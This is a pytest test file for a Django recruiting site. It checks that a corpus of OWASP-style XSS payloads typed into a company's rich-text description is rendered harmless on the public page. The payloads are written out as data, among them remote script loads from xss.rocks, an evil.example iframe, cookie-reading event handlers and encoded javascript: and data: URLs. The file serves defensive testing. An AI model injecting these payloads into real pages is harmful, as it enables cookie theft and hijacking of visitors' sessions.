"""OWASP-style XSS payloads typed into « Ma fiche entreprise »: each must be harmless in the
rendered public page (no script, no event handler, no javascript: URL, no style, no foreign frame)."""

from html.parser import HTMLParser

import pytest
from django.urls import reverse

from tests.companies.factories import recruiter_with_company
from tests.companies.test_company_page_edit import EDIT_URL, form_data
from toolkit.richtext import sanitize_html

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083"
    "&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;"
    "&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27"
    "&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<p style=\"background-image: url(javascript:alert('XSS'))\">stylé</p>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<iframe src=\"https://evil.example/embed/abc\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0i"
    "aHR0cDovL3d3dy53My5vcmcv\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<a href=\"javascript:alert(1)\">clic</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">clic</a>",
    "<a href=\"vbscript:msgbox(1)\">clic</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">clic</a>",
    "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<div data-oembed-url=\"javascript:alert(1)\"><iframe src=\"https://www.youtube.com/embed/x\" "
    "onload=alert(1)></iframe></div>",
    "<oembed url=\"javascript:alert(1)\"></oembed>",
    "<img src=\"x\" alt=\"\" onerror=alert(1)//\">",
    "\"><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<a href=\"https://exemple.fr\" target=\"_blank\">lien sans rel</a>",
]

DANGEROUS_TAGS = {"script", "style", "object", "embed", "applet", "base", "meta", "frame", "frameset", "form",
                  "input", "button", "svg", "math", "link", "noscript", "template", "video", "audio", "source"}
ALLOWED_FRAME_PREFIXES = ("https://www.youtube-nocookie.com/embed/", "https://player.vimeo.com/video/",
                          "https://www.dailymotion.com/embed/video/")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "data", "poster", "xlink:href", "srcdoc"}


def browser_url(value: str) -> str:
    """What a browser makes of a URL attribute: tabs and newlines removed, leading controls and spaces stripped."""
    value = value.replace("\t", "").replace("\n", "").replace("\r", "")
    return value.lstrip("".join(chr(c) for c in range(0x21))).lower()


class Inspector(HTMLParser):
    """Collects what would be dangerous in the description area of the page."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.depth = 0
        self.links = []

    def handle_starttag(self, tag, attrs):
        if tag == "div" and ("class", "company-description richtext") in attrs:
            self.depth = 1
            return
        if not self.depth:
            return
        if tag not in {"br", "img", "hr"}:
            self.depth += 1
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on"):
                self.problems.append(f"event handler {name}")
            if name == "style":
                self.problems.append("style attribute")
            if name in URL_ATTRIBUTES and browser_url(value).startswith(("javascript:", "vbscript:", "data:")):
                self.problems.append(f"{name}={value}")
            if name == "srcdoc":
                self.problems.append("srcdoc")
        if tag == "iframe":
            src = dict(attrs).get("src") or ""
            if not src.startswith(ALLOWED_FRAME_PREFIXES):
                self.problems.append(f"iframe {src}")
        if tag == "a":
            self.links.append(dict(attrs))

    def handle_endtag(self, tag):
        if self.depth and tag not in {"br", "img", "hr"}:
            self.depth -= 1


def inspect_description(html):
    inspector = Inspector()
    inspector.feed(html)
    return inspector


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_harmless_once_sanitised(payload):
    cleaned = sanitize_html(f"<p>Présentation</p>{payload}")
    inspector = inspect_description(f'<div class="company-description richtext">{cleaned}</div>')
    assert inspector.problems == []
    assert all(link.get("rel") == "noopener nofollow" for link in inspector.links)


def test_the_corpus_has_at_least_thirty_payloads():
    assert len(PAYLOADS) >= 30


def refused_for_an_image_without_alt(form) -> bool:
    errors = form.errors.as_data()
    return list(errors) == ["description"] and [e.code for e in errors["description"]] == ["image_alt"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_harmless_in_the_rendered_public_page(client, payload):
    user, company = recruiter_with_company()
    client.force_login(user)
    response = client.post(EDIT_URL, form_data(company, description=f"<p>Présentation</p>{payload}",
                                                 name=f"Société {payload[:60]}"))
    if response.status_code == 200 and refused_for_an_image_without_alt(response.context["form"]):
        # an image shown without alternative text is refused (toolkit.richtext.clean_rich_text): nothing of
        # the payload is published; sanitize_html's own corpus tests cover what it would have become
        company.refresh_from_db()
        assert payload not in company.description
        return
    assert response.status_code == 302, response.context["form"].errors if response.context else ""
    client.logout()
    company.refresh_from_db()
    html = client.get(reverse("companies:public_detail", args=[company.slug])).content.decode()
    inspector = inspect_description(html)
    assert inspector.problems == []
    assert all(link.get("rel") == "noopener nofollow" for link in inspector.links)
    # Outside the description, what the recruiter typed (the name) is escaped text.
    assert "<script" not in html.split('<div class="company-description richtext">')[0].lower()
    assert "Présentation" in html
